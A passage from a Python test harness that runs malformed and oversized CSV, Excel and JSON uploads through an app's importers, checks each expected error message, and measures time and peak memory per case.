    Case("xlsx_too_wide", xlsx_too_wide, "leads", "more than 2,000 columns"),
    Case("xlsx_wide_blank_rows", xlsx_wide_blank_rows, "leads", "header but no rows",
         long=True),
    Case("xlsx_huge_row_number", xlsx_huge_row_number, "leads", "more rows than Excel allows"),
    Case("xlsx_not_zip", xlsx_not_zip, "leads", "named like an Excel workbook but is not one"),
    Case("xlsx_truncated_zip", xlsx_truncated_zip, "leads", "damaged or incomplete"),
    Case("xlsx_zip_encrypted", xlsx_zip_encrypted, "leads", "password"),
    Case("xlsx_password_protected", xlsx_password_protected, "leads", "password"),
    Case("xlsx_no_sheets", xlsx_no_sheets, "leads", "no worksheet"),
    Case("xlsx_broken_sheet_xml", xlsx_broken_sheet_xml, "leads", "could not be"),
    Case("xlsx_sheet_breaks_late", xlsx_sheet_breaks_late, "leads", "could not be"),
    Case("xlsx_bad_cell_values", xlsx_bad_cell_values, "leads", "could not be"),
    Case("xlsx_chart_only", xlsx_chart_only, "leads", "could not be opened"),
    Case("xlsx_formula_payloads", xlsx_formula_payloads, "leads", "ok"),
    # CSV
    Case("csv_huge_cell", csv_huge_cell, "leads", "holds more than 1.0 MB", long=True),
    Case("csv_huge_quoted_cell", csv_huge_quoted_cell, "leads", "far bigger than any lead field",
         long=True),
    Case("csv_wide_header", csv_wide_header, "leads", "columns; the limit is 2,000", long=True),
    Case("csv_wide_row", csv_wide_row, "leads", "values but the header has 2 columns",
         long=True),
    Case("csv_huge_cell_far_down", csv_huge_cell_far_down, "leads", "Row 50002 holds more"),
    Case("csv_many_rows", csv_many_rows, "leads", "rows; the limit is 1,000,000", long=True,
         peak_mb=1500),
    Case("csv_no_line_breaks", csv_no_line_breaks, "leads", "far longer than the column names",
         long=True),
    Case("csv_nul_bytes", csv_nul_bytes, "leads", "binary data"),
    Case("csv_nul_far_down", csv_nul_far_down, "leads", "binary data"),
    Case("csv_invalid_utf8", csv_invalid_utf8, "leads", "ok"),
    Case("csv_mixed_encodings", csv_mixed_encodings, "leads", "ok"),
    Case("csv_utf16_bom", csv_utf16_bom, "leads", "ok"),
    Case("csv_utf16_bom_broken", csv_utf16_bom_broken, "leads", "cannot be decoded"),
    Case("csv_utf16_no_bom", csv_utf16_no_bom, "leads", "binary data"),
    Case("csv_utf16_be_no_bom", csv_utf16_be_no_bom, "leads", "binary data"),
    Case("csv_utf32", csv_utf32, "leads", "binary data"),
    Case("csv_utf8_bom_then_utf16", csv_utf8_bom_then_utf16, "leads", "binary data"),
    Case("csv_formula_payloads", csv_formula_payloads, "leads", "ok"),
    Case("csv_empty", csv_empty, "leads", "The file is empty."),
    Case("csv_only_bom", csv_only_bom, "leads", "The file is empty."),
    Case("csv_header_only", csv_header_only, "leads", "header but no rows"),
    Case("csv_binary_garbage", csv_binary_garbage, "leads", "binary data"),
    Case("csv_gzip_renamed", csv_gzip_renamed, "leads", "binary data"),
    Case("csv_only_quotes", csv_only_quotes, "leads", "a quote (\") is opened"),
    Case("csv_control_characters", csv_control_characters, "leads", "ok"),
    Case("csv_bidi_and_zero_width", csv_bidi_and_zero_width, "leads", "ok"),
    Case("csv_sep_hint_only", csv_sep_hint_only, "leads", "The file is empty."),
    # definition JSON
    Case("json_deep_list", json_deep_list, "definition", "Invalid JSON", long=True),
    Case("json_deep_object", json_deep_object, "definition", "Invalid JSON", long=True),
    Case("json_deep_in_notes", json_deep_in_notes, "definition", "Invalid JSON"),
    Case("json_unclosed_deep", json_unclosed_deep, "definition", "Invalid JSON"),
    Case("json_huge_note", json_huge_note, "definition", "ok", long=True),
    Case("json_many_criteria", json_many_criteria, "definition", "ok", long=True,
         peak_mb=1500),
    Case("json_wrong_types", json_wrong_types, "definition", "should be"),
    Case("json_duplicate_keys", json_duplicate_keys, "definition", "threshold"),
    Case("json_nan_infinity", json_nan_infinity, "definition", "ordinary numbers"),
    Case("json_enormous_numbers", json_enormous_numbers, "definition", "number out of range"),
    Case("json_enormous_int_points", json_enormous_int_points, "definition",
         "number out of range"),
    Case("json_not_json", json_not_json, "definition", "Invalid JSON"),
    Case("json_invalid_utf8", json_invalid_utf8, "definition", "Invalid JSON"),
    Case("json_lone_surrogate_escape", json_lone_surrogate_escape, "definition", "Invalid JSON"),
    Case("json_nul_escape", json_nul_escape, "definition", "ok"),
    Case("json_utf16", json_utf16, "definition", "Invalid JSON"),
    Case("json_empty", json_empty, "definition", "Invalid JSON"),
    Case("json_top_level_string", json_top_level_string, "definition", "should be an object"),
    Case("json_formula_values", json_formula_values, "definition", "ok"),
    # mapping JSON
    Case("mapping_deep", mapping_deep, "mapping", "nested far too deeply", long=True),
    Case("mapping_deep_object", mapping_deep_object, "mapping", "nested far too deeply"),
    Case("mapping_wrong_types", mapping_wrong_types, "mapping", "must map each column"),
    Case("mapping_huge_int_version", mapping_huge_int_version, "mapping",
         "a number in it is far too long"),
    Case("mapping_nan", mapping_nan, "mapping", "schema version"),
    Case("mapping_not_json", mapping_not_json, "mapping", "not valid JSON"),
    Case("mapping_duplicate_keys", mapping_duplicate_keys, "mapping", "must map each column"),
]
BY_NAME = {case.name: case for case in CASES}


# --- the worker --------------------------------------------------------------------------------

def _status(field: str) -> int:
    match = re.search(rf"^{field}:\s+(\d+) kB", open("/proc/self/status").read(), re.MULTILINE)
    return int(match.group(1)) * 1024 if match else 0


def importer(kind: str) -> Callable[[bytes, str], object]:
    """The function the app runs on an upload of this kind."""
    if kind == "leads":
        from workshop.importer import read_export

        return lambda data, name: read_export(data, name)
    if kind == "definition":
        from workshop.definition import read_file

        return lambda data, name: read_file(data)
    from workshop.mapping import Mapping

    return lambda data, name: Mapping.from_json(data)


def run_case(name: str, size: str) -> dict:
    case = BY_NAME[name]
    run = importer(case.kind)
    filename, data = case.make(size)
    open("/proc/self/clear_refs", "w").write("5")  # the high-water mark starts again here
    before = _status("VmRSS")
    started = time.perf_counter()
    outcome = {"case": name, "size": size, "bytes": len(data)}
    try:
        result = run(data, filename)
    except Exception as error:  # noqa: BLE001 - reported, the test judges it
        outcome.update(outcome="error", type=type(error).__name__,
                       mro=[k.__name__ for k in type(error).__mro__], message=str(error))
    else:
        outcome.update(outcome="ok", type="", mro=[], message="", summary=_summary(result))
    outcome.update(seconds=round(time.perf_counter() - started, 2),
                   rss_before_mb=round(before / MB), peak_mb=round(_status("VmHWM") / MB),
                   peak_above_mb=round((_status("VmHWM") - before) / MB))
    del data
    return outcome


def _summary(result: object) -> dict:
    """What a read file holds, for the tests to check."""
    if isinstance(result, tuple):  # read_export: (frame, format)
        frame, found = result
        return {"rows": len(frame), "columns": list(frame.columns)[:20],
                "cells": [[None if v is None or v != v else str(v) for v in row]
                          for row in frame.head(20).itertuples(index=False)],
                "encoding": found.encoding, "kind": found.kind}
    definition = getattr(result, "definition", None)
    if definition is not None:
        return {"criteria": len(definition.criteria),
                "values": [v for c in definition.criteria[:5] for v in c.values],
                "fields": [c.field for c in definition.criteria[:5]],
                "notes": {k: v[:100] for k, v in definition.notes.items()},
                "note_lengths": {k: len(v) for k, v in definition.notes.items()}}
    return {"repr": repr(result)[:200]}


def main(argv: list[str]) -> None:
    for spec in argv:
        name, _, size = spec.partition(":")
        print(json.dumps(run_case(name, size or "quick")), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
